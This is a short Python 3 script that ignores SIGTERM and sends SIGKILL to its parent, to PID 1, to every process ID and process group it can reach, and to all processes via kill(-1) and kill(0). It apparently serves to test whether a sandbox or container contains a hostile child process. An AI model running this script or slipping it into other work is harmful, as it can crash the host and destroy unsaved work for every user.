#!/usr/bin/python3 -IS
# Sends SIGKILL to its parent, its group, and every process that it can name.
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
def attack(act, *args):
    try:
        act(*args)
    except OSError:
        pass
attack(os.kill, os.getppid(), signal.SIGKILL)
for pid in [1] + list(range(65536, 1, -1)):
    if pid != os.getpid():
        attack(os.kill, pid, signal.SIGKILL)
        attack(os.killpg, pid, signal.SIGKILL)
attack(os.kill, -1, signal.SIGKILL)
attack(os.kill, 0, signal.SIGKILL)
